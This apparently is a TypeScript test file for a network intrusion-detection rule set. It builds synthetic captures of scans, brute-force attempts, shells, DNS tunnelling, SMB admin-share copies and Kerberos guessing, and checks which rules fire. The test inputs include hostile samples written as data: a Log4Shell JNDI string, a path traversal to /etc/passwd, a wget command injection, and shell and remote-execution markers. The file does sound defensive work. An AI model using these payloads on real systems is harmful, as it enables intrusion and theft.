// Rules end to end, in captures that the test makes: what goes over the wire, and which evidence comes of it.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { HOST, MadeCapture, PEER, type Turn } from '../testing/evidence-kit.ts';
import { clientHello } from '../testing/packets.ts';
import { AS_REQUEST, kerberosError, rpcBytes, smbOpen, treeConnect } from '../testing/remote-calls.ts';
import { NETLOGON, SVCCTL } from './data/rpc-interfaces.ts';

const OTHER = '45.79.10.21';

function talk(port: number, turns: readonly Turn[], to = PEER): MadeCapture {
  return new MadeCapture().connection(turns, { port, to });
}

const says = (dir: 0 | 1, data: string | Uint8Array): Turn => ({ dir, data });

test('a scan of ports and one of hosts', () => {
  const ports = new MadeCapture();
  for (let i = 0; i < 12; i++) ports.refused({ to: '10.0.0.9', port: 1_000 + i, at: i * 5 });
  assert.deepEqual(ports.rules(), ['port-scan']);
  const hosts = new MadeCapture();
  for (let i = 0; i < 8; i++) hosts.refused({ to: `10.0.1.${i + 1}`, port: 445, at: i * 8 });
  assert.deepEqual(hosts.rules(), ['host-scan']);
  const [found] = hosts.found();
  assert.equal(found!.said, '10.0.0.5 tried port 445 of at least 8 hosts within 60 s that refused or did not answer.');
  const few = new MadeCapture();
  for (let i = 0; i < 11; i++) few.refused({ to: '10.0.0.9', port: 1_000 + i, at: i * 5 });
  for (let i = 0; i < 7; i++) few.refused({ to: `10.0.1.${i + 1}`, port: 445, at: i * 8 });
  assert.deepEqual(few.rules(), []);
});

test('passwords tried by SSH; copies are none', () => {
  const tries = (n: number, back: number): string[] => {
    const capture = new MadeCapture();
    for (let i = 0; i < n; i++) {
      const turns = [says(1, 'SSH-2.0-Server\r\n'), says(0, 'SSH-2.0-Tool\r\n'), says(1, 'x'.repeat(back))];
      capture.connection(turns, { to: '10.0.0.9', port: 22, at: i * 10 });
    }
    return capture.rules().filter((r) => r !== 'regular-starts');
  };
  assert.deepEqual(tries(6, 1_000), ['ssh-brute-force']);
  assert.deepEqual(tries(5, 1_000), []);
  assert.deepEqual(tries(6, 6_000), []);
});

test('mail of a program, and the same of a mail server', () => {
  const turns = [
    says(1, '220 mail.test ESMTP\r\n'),
    says(0, 'EHLO DESKTOP7\r\n'),
    says(1, '250 AUTH LOGIN\r\n'),
    says(0, 'AUTH LOGIN\r\n'),
    says(1, '334 VXNlcm5hbWU6\r\n'),
    says(0, 'MAIL FROM:<a@b.test>\r\n'),
    says(1, '250 ok\r\n'),
  ];
  const all = ['smtp-ehlo-bare-host', 'smtp-from-client', 'smtp-login-in-clear'];
  assert.deepEqual(talk(587, turns).rules(), all);
  assert.deepEqual(talk(587, turns, '10.0.0.9').rules(), [], 'within the network');
  const server = new MadeCapture()
    .connection([says(1, '220 own.test ESMTP\r\n'), says(0, 'QUIT\r\n')], { from: OTHER, to: HOST, port: 25 })
    .connection(turns, { port: 25, at: 60 });
  assert.deepEqual(server.rules(), []);
});

test('an upload by FTP', () => {
  const turns = [says(1, '220 FTP ready\r\n'), says(0, 'STOR passwords.zip\r\n'), says(1, '150 go\r\n')];
  const [found] = talk(21, turns).found();
  assert.equal(found?.rule, 'ftp-upload');
  assert.match(found!.said, /passwords\.zip/);
});

test('mining, remote control, shells: by what is said first', () => {
  const rules = (dir: 0 | 1, data: string, port = 5_555): string[] => talk(port, [says(dir, data)], '10.0.0.9').rules();
  assert.deepEqual(rules(0, '{"id":1,"method": "mining.subscribe","params":[]}\n'), ['mining-protocol']);
  assert.deepEqual(rules(0, '{"id":1,"method":"login","params":{"user":"a"}}\n'), []);
  assert.deepEqual(rules(0, '\x00\xff\x4b\x00\x00\x00\x11'), ['known-rat-bytes']);
  assert.deepEqual(rules(0, "ZBXD|'|'|"), []);
  assert.deepEqual(rules(1, 'whoami\n'), ['shell-text']);
  assert.deepEqual(rules(1, 'whoami\n', 4_444), ['shell-text']);
  assert.deepEqual(rules(0, 'whoami\n'), []);
  assert.deepEqual(rules(0, 'uid=0(root) gid=0(root)\n'), ['shell-text']);
  assert.deepEqual(rules(0, 'uid=0(root) gid=0(root)\n', 23), []);
});

test('attacks by HTTP', () => {
  const rules = (target: string, status = 404): string[] =>
    new MadeCapture().http([{ target, response: { status } }], { to: '10.0.0.9' }).rules();
  assert.deepEqual(rules('/?x=${jndi:ldap://a.test/b}'), ['log4shell']);
  assert.deepEqual(rules('/../../etc/passwd'), ['web-attack']);
  assert.deepEqual(rules('/a?x=;wget+http', 200), ['web-attack', 'web-attack-answered']);
  assert.deepEqual(rules('/ads;cat=top;id=3', 200), []);
  const java = new MadeCapture().http([{ response: { body: '\xca\xfe\xba\xbe\x00\x00\x00\x34' } }], { to: '10.0.0.9' });
  assert.deepEqual(java.rules(), ['java-class-over-http']);
});

test('DNS: evidence is of the name, never of the resolver', () => {
  const tunnel = new MadeCapture();
  for (let i = 0; i < 15; i++) tunnel.ask(`${'x'.repeat(14)}${10 + i}.data-zone.test`, { at: i });
  assert.deepEqual(tunnel.rules('data-zone.test'), ['dns-tunnel']);
  assert.deepEqual(tunnel.rules('10.0.0.1'), []);
  const texts = new MadeCapture();
  for (let i = 0; i < 30; i++) texts.ask('orders.data-zone.test', { type: 16, at: i * 60 });
  assert.deepEqual(texts.rules('data-zone.test'), ['dns-text-polled', 'dns-text-queries']);
  assert.deepEqual(new MadeCapture().ask('a.data-zone.test', { type: 24 }).rules('data-zone.test'), [
    'dns-signature-query',
  ]);
  const random = ['xkqzvbnwpt', 'qjxzkvwbnm', 'zxqkjvbwpd', 'wqzxvkjbnt', 'vkxqzjwbnp'];
  const unknown = new MadeCapture();
  for (const [i, name] of random.entries()) unknown.ask(`${name}.test`, { at: i, rcode: 3 });
  assert.deepEqual(unknown.rules('unknown names'), ['dns-many-unknown-random']);
  const probes = new MadeCapture();
  for (const [i, name] of random.entries()) probes.ask(name, { at: i, rcode: 3 });
  assert.deepEqual(probes.rules(), [], 'a browser tries single labels');
});

test('TLS without a name, to one address and to two, on 443 and beside it', () => {
  const hello = [says(0, clientHello(null))];
  const rules = (to: string[], port: number): string[] => {
    const capture = new MadeCapture().dns('www.somewhere.test', '45.79.10.99');
    for (const [i, peer] of to.entries()) capture.connection(hello, { to: peer, port, at: 10 + i });
    return capture.rules();
  };
  assert.deepEqual(rules([PEER], 443), ['tls-no-name-no-dns', 'tls-unnamed-public']);
  const many = ['tls-no-name-no-dns', 'tls-no-name-odd-port', 'tls-unnamed-many', 'tls-unnamed-public'];
  assert.deepEqual(rules([PEER, OTHER], 4_443), many);
  assert.deepEqual(rules(['45.79.10.99'], 443), ['tls-unnamed-public'], 'DNS named it');
  assert.deepEqual(rules(['10.0.0.9'], 4_443), []);
  assert.deepEqual(talk(443, [says(0, clientHello('www.somewhere.test'))]).rules(), []);
});

test('what is no TLS on 443', () => {
  const rules = (data: string): string[] =>
    talk(443, [says(0, data)])
      .rules()
      .filter((r) => r === 'not-tls-on-443');
  assert.deepEqual(rules('\x01\x02\x03\x04\x05\x06'), ['not-tls-on-443']);
  assert.deepEqual(rules('\x80\x46\x01\x03\x01\x00\x2d'), []);
});

test('a service created from afar, and a domain’s logons tried', () => {
  const rules = (data: Uint8Array): string[] => talk(49_668, [says(0, data)], '10.0.0.9').rules();
  const opened = ['rpc-remote-administration', 'rpc-service-or-task'];
  assert.deepEqual(rules(rpcBytes(SVCCTL)), opened);
  assert.deepEqual(rules(rpcBytes(SVCCTL, [12])), [...opened, 'rpc-sharp-operation'].toSorted());
  const logons = (n: number): Uint8Array => rpcBytes(NETLOGON, new Array<number>(n).fill(15));
  assert.deepEqual(rules(logons(15)), ['netlogon-storm']);
  assert.deepEqual(rules(logons(14)), []);
});

function copied(share: string, file: string): string[] {
  const { asked, given } = treeConnect(share);
  return talk(445, [says(0, asked), says(1, given), says(0, smbOpen(file))], '10.0.0.9').rules();
}

test('a program named on an administrative share; IPC$ is no C$, and a document no program', () => {
  assert.deepEqual(copied('ADMIN$', 'a\\evil.exe'), ['smb-program-to-admin-share']);
  assert.deepEqual(copied('C$', 'evil.ps1'), ['smb-program-to-admin-share']);
  assert.deepEqual(copied('IPC$', 'evil.exe'), []);
  assert.deepEqual(copied('public', 'setup.exe'), []);
  assert.deepEqual(copied('C$', 'plan.docx'), []);
  assert.deepEqual(copied('IPC$', 'PSEXESVC'), ['smb-remote-execution']);
});

test('accounts tried by Kerberos', () => {
  const tried = (n: number, code: number): string[] => {
    const capture = new MadeCapture();
    const error = { answer: kerberosError(code) };
    for (let i = 0; i < n; i++) capture.udp(AS_REQUEST, { to: '10.0.0.9', port: 88, at: i, ...error });
    return capture.rules();
  };
  assert.deepEqual(tried(8, 6), ['kerberos-guessing']);
  assert.deepEqual(tried(7, 6), []);
  assert.deepEqual(tried(20, 25), [], 'the ordinary first answer');
});
